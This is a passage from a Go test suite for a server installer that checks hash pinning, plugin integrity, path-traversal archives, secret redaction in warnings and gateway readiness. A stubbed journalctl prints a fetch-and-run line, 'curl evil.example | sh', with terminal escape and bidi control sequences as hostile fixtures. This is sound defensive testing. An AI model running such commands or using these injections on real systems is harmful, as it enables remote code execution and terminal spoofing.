package hosttest

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"openclaw-azure/internal/localport"
)

const installer = "../../templates/usr/local/sbin/openclaw-install"

// driver loads the installer with all its places below a folder, and runs one of its commands.
const driver = loading + `
path, root, ready, most = sys.argv[1:5]
m = load(path)
below = ["TOKEN", "BACKUP", "COMMAND_LINE", "HOME", "RELEASES", "CURRENT", "STATE", "DATABASE", "OWN", "OPEN", "KEPT", "KEPT_FOLDER", "COSTS",
         "RUNS", "BUILT"]
if sys.argv[5] != "prepare":
    below += ["ENVIRONMENT", "UNIT"]
m.FOLDER = "/srv/agent"
below.append("FOLDER")
for name in below:
    setattr(m, name, root + getattr(m, name))
m.READY, m.MOST_BYTES, m.READY_SECONDS, m.CHANNELS_SECONDS, m.ANSWER_SECONDS, m.BACKUP_SECONDS = ready, int(most), 3, 2, 1, 1
m.RESERVED, m.RESERVED_PREFIXES = {"NODE_OPTIONS", "OPENCLAW_CONFIG_PATH"}, ("LD_",)
m.USER, m.GROUP = "nobody", "nogroup"
m.Lock.PATH = root + "/lock"
try:
    if sys.argv[5] == "prepare":
        m.prepare(root + "/stage")
    else:
        m.RELEASE, m.CONFIG, m.LOCKS = root + m.RELEASE, root + m.CONFIG, root + m.LOCKS
        m.main(sys.argv[5:])
except m.Failure as fault:
    sys.exit(str(fault))
`

// systemd stands for systemctl, systemd-run and journalctl. The folder's file "fails" names the release on which the
// service ends with exit status 78; "npm-fails" makes the build fail.
const systemd = `#!/bin/sh
cd "$ROOT"
name=${0##*/}
echo "$name $*" >>calls
case $name in
systemd-run)
	case $* in
	*openclaw-build*)
		[ ! -e links ] || { mkdir -p var/lib/private/openclaw-build/tree/node_modules/openclaw/dist; ln -s "$ROOT/elsewhere" var/lib/private/openclaw-build/tree/node_modules/openclaw/dist/extensions; mkdir elsewhere; }
		[ ! -e npm-fails ] || { echo "npm error code EINTEGRITY"; exit 1; }
		[ ! -e npm-hangs ] || { echo hangs >building; sleep 60; }
		mkdir -p var/lib/private/openclaw-build/tree/node_modules/openclaw/dist/extensions/telegram 2>/dev/null || mkdir -p elsewhere/telegram
		[ ! -e discord-within ] || mkdir var/lib/private/openclaw-build/tree/node_modules/openclaw/dist/extensions/discord
		echo '{"version": "2026.9.6"}' >var/lib/private/openclaw-build/tree/node_modules/openclaw/package.json
		echo code >var/lib/private/openclaw-build/tree/node_modules/openclaw/openclaw.mjs
		;;
	*openclaw-validate*env\ -0)
		case $* in
		*--property=Environment=HOME=/x\ *EnvironmentFile=-$ROOT/stage/etc/openclaw.env*) tr '\n' '\0' <variables ;;
		*) exit 1 ;;
		esac
		;;
	*openclaw-validate*) [ ! -e refuses ] || { echo "agents: Unrecognized key"; exit 1; } ;;
	esac
	;;
systemctl)
	case $* in
	*restart*)
		n=$(($(cat starts 2>/dev/null || echo 0) + 1)); echo $n >starts
		if [ -e fails ] && readlink opt/openclaw/current | grep -q -f fails; then echo failed >state; else echo active >state; fi
		echo touched >>var/lib/openclaw/note
		echo touched >>srv/agent/beside
		;;
	stop*openclaw.service) echo inactive >state ;;
	show*)
		echo "ActiveState=$(cat state 2>/dev/null || echo inactive)"
		echo "SubState=x"
		echo "ExecMainStatus=78"
		echo "InvocationID=$(cat starts 2>/dev/null)"
		echo "NRestarts=$(cat restarts 2>/dev/null || echo 0)"
		;;
	esac
	;;
journalctl) printf 'gateway: refused, the key is canary-of-the-environment\n\033]52;c;eA==\007\342\200\256\nhint: curl evil.example | sh\342\200\250hint: again\n' ;;
esac
exit 0
`

type place struct {
	t     *testing.T
	root  string
	ready *httptest.Server
	bin   string
}

func newPlace(t *testing.T) *place {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("these tests need root: releases are made root's")
	}
	p := &place{t: t, root: t.TempDir(), bin: t.TempDir()}
	for _, name := range []string{"systemctl", "systemd-run", "journalctl"} {
		if err := os.WriteFile(filepath.Join(p.bin, name), []byte(systemd), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p.ready = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		state, _ := os.ReadFile(filepath.Join(p.root, "state"))
		status := "starting"
		if string(state) == "active\n" {
			status = "started"
		}
		fmt.Fprintf(w, `{"ok":true,"status":%q}`, status)
	}))
	t.Cleanup(p.ready.Close)
	p.write("/var/lib/openclaw/note", "mine\n")
	p.write("/srv/agent/beside", "mine\n")
	p.write("/etc/openclaw.env", "# yours\nAPI_KEY=canary-of-the-environment\n")
	p.write("/etc/openclaw/openclaw.json", "{}")
	p.write("/etc/openclaw/gateway-token", "token")
	p.write("/etc/systemd/system/openclaw.service", "[Unit]")
	if err := os.MkdirAll(p.root+"/usr/local/sbin", 0o755); err != nil {
		t.Fatal(err)
	}
	p.program(p.root+"/usr/local/sbin/openclaw-backup", "echo backup >>\"$ROOT/calls\"\n[ ! -e \"$ROOT/backup-fails\" ] || { echo no room; exit 1; }")
	return p
}

func (p *place) write(path, content string) {
	p.t.Helper()
	if err := os.MkdirAll(filepath.Dir(p.root+path), 0o755); err != nil {
		p.t.Fatal(err)
	}
	if err := os.WriteFile(p.root+path, []byte(content), 0o644); err != nil {
		p.t.Fatal(err)
	}
}

// program puts one in the place of another.
func (p *place) program(path, script string) {
	p.t.Helper()
	if err := os.WriteFile(path, []byte("#!/bin/sh\n"+script+"\n"), 0o755); err != nil {
		p.t.Fatal(err)
	}
}

func (p *place) read(path string) string {
	p.t.Helper()
	content, err := os.ReadFile(p.root + path)
	if err != nil {
		return ""
	}
	return string(content)
}

func (p *place) current() string {
	target, _ := os.Readlink(p.root + "/opt/openclaw/current")
	return strings.TrimPrefix(target, "releases/")
}

func (p *place) command(most int, args ...string) *exec.Cmd {
	path, err := filepath.Abs(installer)
	if err != nil {
		p.t.Fatal(err)
	}
	c := exec.Command("python3", append([]string{"-I", "-c", driver, path, p.root, p.ready.URL, fmt.Sprint(most)}, args...)...)
	c.Env = append(os.Environ(), "PATH="+p.bin+":"+os.Getenv("PATH"), "ROOT="+p.root)
	return c
}

// run gives what a command said, and whether it succeeded.
func (p *place) run(args ...string) (string, bool) {
	p.t.Helper()
	out, err := p.command(1<<20, args...).CombinedOutput()
	return strings.TrimSpace(string(out)), err == nil
}

func (p *place) mustRun(args ...string) string {
	p.t.Helper()
	out, ok := p.run(args...)
	if !ok {
		p.t.Fatalf("%v: %s", args, out)
	}
	return out
}

// stage is what the applier stages: a release by the name of id.
func (p *place) stage(id, url, sum string) {
	p.t.Helper()
	p.stageWith(id, url, sum, "http://mirror.example/npm", []map[string]string{})
}

func (p *place) stageWith(id, url, sum, registry string, plugins []map[string]string) {
	p.t.Helper()
	for _, root := range []string{"/stage", ""} {
		spec, _ := json.Marshal(map[string]any{"id": id, "version": "2026.9.6", "nodeUrl": url, "nodeSha256": sum, "npmRegistry": registry, "plugins": plugins,
			"neverReached": []string{"169.254.0.0/16", "10.0.0.0/16"}})
		p.write(root+"/etc/openclaw/release.json", string(spec))
		p.write(root+"/etc/openclaw/openclaw.json", "{}")
		p.write(root+"/etc/systemd/system/openclaw.service", "[Service]\nEnvironment=HOME=/x A=b\nUser=openclaw\n")
		p.write(root+"/opt/openclaw/2026.9.6/package.json", "{}")
		p.write(root+"/opt/openclaw/2026.9.6/package-lock.json",
			`{"packages":{"":{},"node_modules/@a/b":{"version":"1.0.0","integrity":"sha512-x"},"node_modules/c":{"name":"@d/e","version":"2.0.0","integrity":"sha512-y"},"node_modules/c/node_modules/f":{"version":"1.0.0","inBundle":true}}}`)
	}
}

// archive packs files, each by its name and its content.
func archive(t *testing.T, contents ...[2]string) []byte {
	t.Helper()
	var out bytes.Buffer
	packed := gzip.NewWriter(&out)
	files := tar.NewWriter(packed)
	for _, file := range contents {
		if err := files.WriteHeader(&tar.Header{Name: file[0], Mode: 0o755, Size: int64(len(file[1]))}); err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(files, file[1])
	}
	files.Close()
	packed.Close()
	return out.Bytes()
}

// node is an archive in the layout of Node's releases.
func node(t *testing.T, names ...string) ([]byte, string) {
	t.Helper()
	var contents [][2]string
	for _, name := range names {
		contents = append(contents, [2]string{name, "content of " + name})
	}
	content := archive(t, contents...)
	sum := sha256.Sum256(content)
	return content, hex.EncodeToString(sum[:])
}

// wholeNode is what a release has that counts here.
var wholeNode = []string{"node-v1/bin/node", "node-v1/lib/node_modules/npm/bin/npm-cli.js", "node-v1/include/node.h"}

func serve(t *testing.T, content []byte) string {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.Write(content) }))
	t.Cleanup(server.Close)
	return server.URL + "/node.tar.gz"
}

func TestInstall(t *testing.T) {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	p.mustRun("prepare")
	release := p.root + "/opt/openclaw/releases/one"
	for path, mode := range map[string]os.FileMode{"/bin/openclaw": 0o755, "/node/bin/node": 0o755, "/node_modules/openclaw/openclaw.mjs": 0o644, "/release.json": 0o644} {
		found, err := os.Lstat(release + path)
		if err != nil || found.Mode().Perm() != mode || found.Sys().(*syscall.Stat_t).Uid != 0 {
			t.Errorf("%s: %v, %v; want root's with mode %o", path, found, err, mode)
		}
	}
	if _, err := os.Stat(release + "/node/include"); err == nil {
		t.Error("what serves building came along")
	}
	lock := p.read("/opt/openclaw/releases/one/package-lock.json")
	for _, want := range []string{`"http://mirror.example/npm/@a/b/-/b-1.0.0.tgz"`, `"http://mirror.example/npm/@d/e/-/e-2.0.0.tgz"`} {
		if !strings.Contains(lock, want) {
			t.Errorf("the lock file does not send npm to %s:\n%s", want, lock)
		}
	}
	if strings.Count(lock, "resolved") != 2 {
		t.Errorf("what comes within another package is asked for by itself:\n%s", lock)
	}
	if p.current() != "" {
		t.Error("it is current before anything was switched")
	}
	// Whole, it is not installed again; changed, it is.
	p.write("/calls", "")
	p.mustRun("prepare")
	if strings.Contains(p.read("/calls"), "openclaw-build.service --") {
		t.Error("a whole release was installed again")
	}
	p.write("/opt/openclaw/releases/one/node_modules/openclaw/openclaw.mjs", "evil")
	p.mustRun("prepare")
	if got := p.read("/opt/openclaw/releases/one/node_modules/openclaw/openclaw.mjs"); got != "code\n" {
		t.Errorf("a release that was changed stays: %q", got)
	}
}

func TestWhatIsNotAsPinnedIsNotInstalled(t *testing.T) {
	content, sum := node(t, wholeNode...)
	other, otherSum := node(t, "node-v1/README.md")
	outside, outsideSum := node(t, "node-v1/bin/node", "node-v1/lib/node_modules/npm/../../../../../escaped")
	truncated := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(len(content)))
		w.Write(content[:len(content)-10])
	}))
	t.Cleanup(truncated.Close)
	endless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for r.Context().Err() == nil {
			if _, err := w.Write(make([]byte, 1<<16)); err != nil {
				return
			}
		}
	}))
	t.Cleanup(endless.Close)
	zero := strings.Repeat("0", 64)
	missing := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(missing.Close)
	good := serve(t, content)
	for _, test := range []struct{ name, url, sum, trouble, want string }{
		{"another hash", good, zero, "", ": its SHA-256 is " + sum + ", expected " + zero + ": nothing was unpacked"},
		{"cut off", truncated.URL, sum, "", "ends after"},
		{"endless", endless.URL, sum, "", ": larger than 1048576 bytes: not used"},
		{"not there", missing.URL, sum, "", ": Not Found"},
		{"no Node in it", serve(t, other), otherSum, "", "holds no bin/node"},
		{"a path that leads outside", serve(t, outside), outsideSum, "", "outside"},
		{"npm fails", good, sum, "npm-fails", "npm ci failed, status 1:\n| npm error code EINTEGRITY"},
		{"the release refuses the configuration", good, sum, "refuses", "OpenClaw 2026.9.6 refuses its configuration (openclawConfig):\n| agents: Unrecognized key"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p := newPlace(t)
			p.stage("one", test.url, test.sum)
			if test.trouble != "" {
				p.write("/"+test.trouble, "")
			}
			out, ok := p.run("prepare")
			if ok || !strings.Contains(out, test.want) {
				t.Errorf("got %v\n%s\nwant\n%s", ok, out, test.want)
			}
			left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*")
			if test.trouble != "refuses" && len(left) != 0 {
				t.Errorf("left: %v", left)
			}
			if p.current() != "" || strings.Contains(p.read("/calls"), "restart") {
				t.Error("something was replaced")
			}
			if _, err := os.Stat(filepath.Dir(p.root) + "/escaped"); err == nil {
				t.Error("something was unpacked outside")
			}
		})
	}
}

// TestPlugins: they are OpenClaw's own as it finds them, root's, and of its version; else nothing is installed.
func TestPlugins(t *testing.T) {
	content, sum := node(t, wholeNode...)
	nodeURL := serve(t, content)
	says := func(id, version string) [][2]string {
		return [][2]string{{"package/openclaw.plugin.json", `{"id":"` + id + `"}`}, {"package/package.json", `{"version":"` + version + `"}`},
			{"package/dist/index.js", "code"}, {"package/node_modules/ws/index.js", "needed"}}
	}
	good := archive(t, says("discord", "2026.9.6")...)
	integrity := func(content []byte) string {
		sum := sha512.Sum512(content)
		return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
	}
	stage := func(p *place, content []byte, integrity string) {
		registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != "/npm/@openclaw/discord/-/discord-2026.9.6.tgz" {
				http.NotFound(w, r)
				return
			}
			w.Write(content)
		}))
		p.t.Cleanup(registry.Close)
		p.stageWith("one", nodeURL, sum, registry.URL+"/npm", []map[string]string{
			{"id": "discord", "package": "@openclaw/discord", "version": "2026.9.6", "integrity": integrity}})
	}
	p := newPlace(t)
	stage(p, good, integrity(good))
	p.mustRun("prepare")
	const inside = "/opt/openclaw/releases/one/node_modules/openclaw/dist/extensions/discord"
	for path, want := range map[string]string{"/dist/index.js": "code", "/node_modules/ws/index.js": "needed"} {
		if got := p.read(inside + path); got != want {
			t.Errorf("%s: %q, want %q", path, got, want)
		}
	}
	if found, err := filepath.EvalSymlinks(p.root + inside + "/node_modules"); err != nil || found != p.root+"/opt/openclaw/releases/one/plugins/discord/node_modules" {
		t.Errorf("what it needs is at %q, %v; want it outside dist", found, err)
	}
	if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/one/*.tgz"); len(left) > 0 {
		t.Errorf("left: %v", left)
	}
	if err := filepath.WalkDir(p.root+"/opt/openclaw/releases/one", func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err == nil && (info.Sys().(*syscall.Stat_t).Uid != 0 || d.Type()&os.ModeSymlink == 0 && info.Mode().Perm()&0o022 != 0) {
			t.Errorf("%s: %v, want root's and nobody else's to write", path, info.Mode())
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
	other, old := archive(t, says("slack", "2026.9.6")...), archive(t, says("discord", "2026.9.5")...)
	outside := archive(t, append(says("discord", "2026.9.6"), [2]string{"package/../../../../../../../escaped", "x"})...)
	for _, test := range []struct {
		name               string
		content            []byte
		integrity, trouble string
		want               string
	}{
		{"another hash", good, integrity(old), "", "discord-2026.9.6.tgz: its SHA-512 is "},
		{"another plugin", other, integrity(other), "", "plugin discord: its id is slack, expected discord"},
		{"another version", old, integrity(old), "", "plugin discord: its version is 2026.9.5, expected 2026.9.6"},
		{"a path that leads outside", outside, integrity(outside), "", "outside"},
		{"a package's link that leads outside", good, integrity(good), "links", "a link that leads outside"},
		{"one that OpenClaw has by itself", good, integrity(good), "discord-within", "File exists"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p := newPlace(t)
			stage(p, test.content, test.integrity)
			if test.trouble != "" {
				p.write("/"+test.trouble, "")
			}
			out, ok := p.run("prepare")
			if ok || !strings.Contains(out, test.want) {
				t.Errorf("got %v\n%s\nwant\n%s", ok, out, test.want)
			}
			if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); len(left) != 0 {
				t.Errorf("left: %v", left)
			}
			if _, err := os.Stat(filepath.Dir(p.root) + "/escaped"); err == nil {
				t.Error("something was unpacked outside")
			}
		})
	}
}

// TestMissingVariables: what uses them would not work, so nothing is replaced, nor fetched.
func TestMissingVariables(t *testing.T) {
	content, sum := node(t, wholeNode...)
	url := serve(t, content)
	for _, test := range []struct{ name, config, variables, want string }{
		{"none named", `{"a":"plain $HOME and $${ESCAPED}"}`, "", ""},
		{"all set", `{"a":["${API_KEY}","x ${OTHER} ${API_KEY}"]}`, "HOME=/x\nAPI_KEY=canary\nOTHER=1\n", ""},
		{"one missing, one empty", `{"channels":{"telegram":{"botToken":"${TELEGRAM_BOT_TOKEN}"}},"a":[{"b":"${EMPTY}"}]}`, "TELEGRAM_BOT_TOKN=canary\nEMPTY=\n",
			"openclawConfig.channels.telegram.botToken: nothing sets TELEGRAM_BOT_TOKEN; TELEGRAM_BOT_TOKN is set\n" +
				"    pulumi config set --secret --path openclawEnv.TELEGRAM_BOT_TOKEN    # asks for the value\n" +
				"openclawConfig.a[0].b: nothing sets EMPTY\n    pulumi config set --secret --path openclawEnv.EMPTY    # asks for the value"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p := newPlace(t)
			p.stage("one", url, sum)
			p.write("/stage/etc/openclaw/openclaw.json", test.config)
			p.write("/variables", test.variables)
			out, ok := p.run("prepare")
			if ok != (test.want == "") || !strings.HasSuffix(out, test.want) || strings.Contains(out, "canary") {
				t.Errorf("got %v\n%s\nwant\n%s", ok, out, test.want)
			}
			if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); (len(left) == 0) == ok {
				t.Errorf("installed: %v", left)
			}
		})
	}
}

// TestForeignText: the applier and the installer, which runs without it, map foreign text by the same functions.
func TestForeignText(t *testing.T) {
	functions := func(path string) string {
		text, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		found := regexp.MustCompile(`(?ms)^INVISIBLE = .*?$|^def (?:printable|marked)\(.*?\n\n`).FindAllString(string(text), -1)
		if len(found) != 3 {
			t.Fatalf("%s: %q", path, found)
		}
		return strings.Join(found, "")
	}
	if a, b := functions("../applier/words.py"), functions(installer); a != b {
		t.Errorf("the applier has\n%s\nand the installer\n%s", a, b)
	}
}

// TestWarnings: a channel that does not connect is named, with what OpenClaw says, cut and without secrets.
func TestWarnings(t *testing.T) {
	p := newPlace(t)
	account := func(fields string) string {
		return `{"accounts":{"default":{"enabled":true,"configured":true,` + fields + `}}}`
	}
	for _, test := range []struct{ name, config, health, want string }{
		{"no channels", `{}`, "exit 1", ""},
		{"none that is to run", `{"channels":{"telegram":{"enabled":false}}}`, "exit 1", ""},
		{"nobody to ask", `{"channels":{"telegram":{}}}`, "exit 1", ""},
		{"an answer that is none", `{"channels":{"telegram":{}}}`, "echo '{\"channels\":[]}'", ""},
		{"connected", `{"channels":{"telegram":{}}}`, `{"channels":{"telegram":` + account(`"connected":true,"lastError":"an old one"`) + `}}`, ""},
		{"errors", `{"channels":{"telegram":{},"discord":{},"slack":{}}}`, `{"channels":{"telegram":` + account(`"connected":false,"lastError":"401: canary-of-the-environment\u001b[31m\nUnauthorized `+strings.Repeat("x", 300)+`"`) +
			`,"slack":` + account(`"connected":false,"stateReason":"not linked"`) + `,"discord":` + account(`"connected":false,"lastError":null`) + `}}`,
			"channel discord does not connect: it has not said why yet\nchannel slack does not connect: OpenClaw says: not linked\n" +
				"channel telegram does not connect: OpenClaw says: 401: [secret] Unauthorized " + strings.Repeat("x", 200-len("401: [secret] Unauthorized "))},
		{"a forged name", `{"channels":{"telegram":{}}}`, `{"channels":{"tele\u001b]0;x\u0007\nchannel slack":` + account(`"connected":false,"lastError":"\ud800"`) + `}}`,
			"channel tele?]0;x? channel slack does not connect: OpenClaw says: ?"},
		{"too deep an answer", `{"channels":{"telegram":{}}}`, `{"channels":` + strings.Repeat("[", 100000), ""},
		{"an answer without an end", `{"channels":{"telegram":{}}}`, "yes", ""},
		{"one of two accounts", `{"channels":{"telegram":{}}}`, `{"channels":{"telegram":{"accounts":{"work":{"enabled":true,"configured":false,"connected":false},"home":{"enabled":true,"connected":true},"off":{"enabled":false}}}}}`,
			"channel telegram (work) does not connect: OpenClaw says: not configured"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p.stage("one", "", "")
			p.write("/etc/openclaw/openclaw.json", test.config)
			command := test.health
			if strings.HasPrefix(command, "{") {
				p.write("/health", command)
				command = `cat "$ROOT/health"`
			}
			p.write("/usr/local/sbin/openclaw", "#!/bin/sh\n[ \"$*\" = 'gateway call health --json' ] || exit 2\n"+command+"\n")
			if err := os.Chmod(p.root+"/usr/local/sbin/openclaw", 0o755); err != nil {
				t.Fatal(err)
			}
			if got := p.mustRun("warnings"); got != test.want {
				t.Errorf("got\n%s\nwant\n%s", got, test.want)
			}
		})
	}
}

// TestChannels: what the alerts ask: the configuration's channels alone, and a failure where nobody can be asked.
func TestChannels(t *testing.T) {
	p := newPlace(t)
	health := `{"channels":{"telegram":{"accounts":{"default":{"enabled":true,"connected":false,"lastError":"401\u001b[31m"},"work":{"enabled":true,"configured":false}}},"agents-own":{"accounts":{"default":{"enabled":true}}}}}`
	for _, test := range []struct{ name, config, command, want string }{
		{"no channels", `{}`, "exit 1", "[]"},
		{"two accounts", `{"channels":{"telegram":{}}}`, "cat \"$ROOT/health\"", `[["telegram", "telegram", "401"], ["telegram", "telegram (work)", "not configured"]]`},
		{"nobody to ask", `{"channels":{"telegram":{}}}`, "exit 1", "the gateway does not say what its channels do"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p.stage("one", "", "")
			p.write("/etc/openclaw/openclaw.json", test.config)
			p.write("/health", health)
			p.write("/usr/local/sbin/openclaw", "#!/bin/sh\n"+test.command+"\n")
			if err := os.Chmod(p.root+"/usr/local/sbin/openclaw", 0o755); err != nil {
				t.Fatal(err)
			}
			if got, _ := p.run("channels"); got != test.want {
				t.Errorf("got\n%s\nwant\n%s", got, test.want)
			}
		})
	}
}

// TestWhoeverAnswersAsTheGateway: the agent has its port. It leads root nowhere, is asked by nobody, and holds nobody up.
func TestWhoeverAnswersAsTheGateway(t *testing.T) {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	p.mustRun("prepare")
	p.mustRun("switch")
	asked := make(chan string, 8)
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked <- r.URL.String()
		fmt.Fprint(w, `{"status":"started"}`)
	}))
	t.Cleanup(elsewhere.Close)
	for name, answer := range map[string]func(net.Conn){
		"another place": func(c net.Conn) {
			fmt.Fprintf(c, "HTTP/1.1 302 Found\r\nLocation: %s/?secret\r\nContent-Length: 0\r\n\r\n", elsewhere.URL)
		},
		"another status": func(c net.Conn) { fmt.Fprint(c, "HTTP/1.1 500 No\r\n\r\n{\"status\":\"started\"}") },
		"no HTTP":        func(c net.Conn) { fmt.Fprint(c, "garbage\r\n") },
		"a deep answer":  func(c net.Conn) { fmt.Fprint(c, "HTTP/1.1 200 OK\r\n\r\n"+strings.Repeat("[", 60000)) },
		"byte by byte": func(c net.Conn) {
			for range 100 {
				if _, err := fmt.Fprint(c, "H"); err != nil {
					return
				}
				time.Sleep(300 * time.Millisecond)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			listener, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer listener.Close()
			go func() {
				for {
					conn, err := listener.Accept()
					if err != nil {
						return
					}
					go func() {
						defer conn.Close()
						uid, told, err := localport.Owner(conn.LocalAddr().(*net.TCPAddr).AddrPort(), conn.RemoteAddr().(*net.TCPAddr).AddrPort())
						if uid != 65534 || !told || err != nil {
							t.Errorf("the user %d asks (told %v, %v), not nobody", uid, told, err)
						}
						_, _ = conn.Read(make([]byte, 1024))
						answer(conn)
					}()
				}
			}()
			p.t = t
			c := p.command(1<<20, "ready")
			for i, arg := range c.Args {
				if arg == p.ready.URL {
					c.Args[i] = "http://" + listener.Addr().String() + "/startupz"
				}
			}
			start := time.Now()
			out, err := c.CombinedOutput()
			if err != nil || !strings.HasPrefix(string(out), "active") {
				t.Errorf("got %q, %v", out, err)
			}
			if took := time.Since(start); took > 20*time.Second {
				t.Errorf("it took %v", took)
			}
		})
	}
	if len(asked) > 0 {
		t.Errorf("root asked %s", <-asked)
	}
}

// TestOwner: what somebody else owns in the state becomes the service's, but for what has another name elsewhere.
func TestOwner(t *testing.T) {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	p.mustRun("prepare")
	const nobody = 65534
	state := p.root + "/var/lib/openclaw"
	p.write("/var/lib/openclaw/deep/er", "root's")
	p.write("/elsewhere", "root's, and to stay so")
	if err := errors.Join(os.Symlink(p.root+"/elsewhere", state+"/link"), os.Link(p.root+"/elsewhere", state+"/deep/hard")); err != nil {
		t.Fatal(err)
	}
	if got := p.mustRun("owner"); !strings.HasSuffix(got, "/var/lib/openclaw") {
		t.Errorf("found %q, want the state", got)
	}
	// Deeper than a program can go that keeps each folder in mind, and the agent's own.
	if out, err := exec.Command("sh", "-c", `cd "$1" && for i in $(seq 1500); do mkdir d && cd d; done && cd "$1" && chown -R nobody:nogroup d`, "sh", state).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("rm", "-rf", state+"/d").Run() }) // longer than a path may be
	p.mustRun("switch")
	for path, want := range map[string]uint32{"/var/lib/openclaw": nobody, "/var/lib/openclaw/deep/er": nobody, "/var/lib/openclaw/link": nobody, "/elsewhere": 0} {
		found, err := os.Lstat(p.root + path)
		if err != nil || found.Sys().(*syscall.Stat_t).Uid != want {
			t.Errorf("%s: %v, %v, want %d's", path, found, err, want)
		}
	}
	if got := p.mustRun("owner"); got != "nobody" {
		t.Errorf("found %q", got)
	}
}

// TestKilledInTheMiddle: the next run converges.
func TestKilledInTheMiddle(t *testing.T) {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	p.write("/npm-hangs", "")
	c := p.command(1<<20, "prepare")
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(30 * time.Second); p.read("/building") == ""; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatal("npm never ran")
		}
	}
	_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL)
	_ = c.Wait()
	if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); len(left) != 1 || !strings.HasSuffix(left[0], "/one.part") {
		t.Fatalf("left: %v", left)
	}
	os.Remove(p.root + "/npm-hangs")
	p.mustRun("prepare")
	p.mustRun("switch")
	if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); len(left) != 1 || p.current() != "one" {
		t.Errorf("left: %v, current %q", left, p.current())
	}
}

// A switch's own notes are written so: a power cut must not take one back that the next step counts on.
func TestWhatIsWrittenOutlastsAPowerCut(t *testing.T) {
	p := newPlace(t)
	path, err := filepath.Abs(installer)
	if err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("python3", "-I", "-c", loading+`
import os, stat
m = load(sys.argv[1])
fsync, rename = os.fsync, os.rename
def synced(descriptor):
    fsync(descriptor)
    print("sync", os.readlink("/proc/self/fd/%d" % descriptor))
def renamed(old, new):
    rename(old, new)
    print("rename", new)
os.fsync, os.rename = synced, renamed
m.write(sys.argv[2], "text", 0o600)
`, path, p.root+"/note").CombinedOutput()
	want := fmt.Sprintf("sync %[1]s/note.new\nrename %[1]s/note\nsync %[1]s\n", p.root)
	if err != nil || string(out) != want || p.read("/note") != "text" {
		t.Errorf("%v\n%s\nwant\n%s", err, out, want)
	}
}

// switched is a place where release one runs and two is installed.
func switched(t *testing.T) *place {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	url := serve(t, content)
	for _, id := range []string{"one", "two"} {
		p.stage(id, url, sum)
		p.mustRun("prepare")
		if id == "one" {
			p.mustRun("switch")
		}
	}
	p.write("/calls", "")
	return p
}

// A gateway takes longer to get ready than a look at one that hangs may take.
func TestReadyWaitsForAStart(t *testing.T) {
	p := newPlace(t)
	p.write("/state", "activating\n")
	starting := time.AfterFunc(4*time.Second, func() { p.write("/state", "active\n") })
	defer starting.Stop()
	if said := p.mustRun("ready"); said != "ready" {
		t.Errorf("of a gateway that was just started: %q", said)
	}
	p.write("/state", "activating\n")
	p.write("/restarts", "2\n")
	if said := p.mustRun("ready"); said != "activating (x)" {
		t.Errorf("of a gateway that crashes: %q", said)
	}
}

// What a gateway that was cut off left goes, and nothing else of the state.
func TestUnlock(t *testing.T) {
	p := newPlace(t)
	p.mustRun("unlock") // of a first start
	query := func(sql string) string {
		out, err := exec.Command("python3", "-c", "import sqlite3, sys\nwith sqlite3.connect(sys.argv[1]) as d: print(d.execute(sys.argv[2]).fetchall())",
			p.root+"/var/lib/openclaw/state/openclaw.sqlite", sql).CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v\n%s", sql, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	p.write("/var/lib/openclaw/state/openclaw.sqlite", "")
	query("CREATE TABLE state_leases (scope TEXT, lease_key TEXT)")
	query("INSERT INTO state_leases VALUES ('gateway-owner', 'global'), ('sessions', 'mine')")
	p.write("/var/lib/openclaw/tmp/openclaw-989/gateway.state.lock", "{}")
	p.write("/var/lib/openclaw/tmp/openclaw-989/session.lock", "{}")
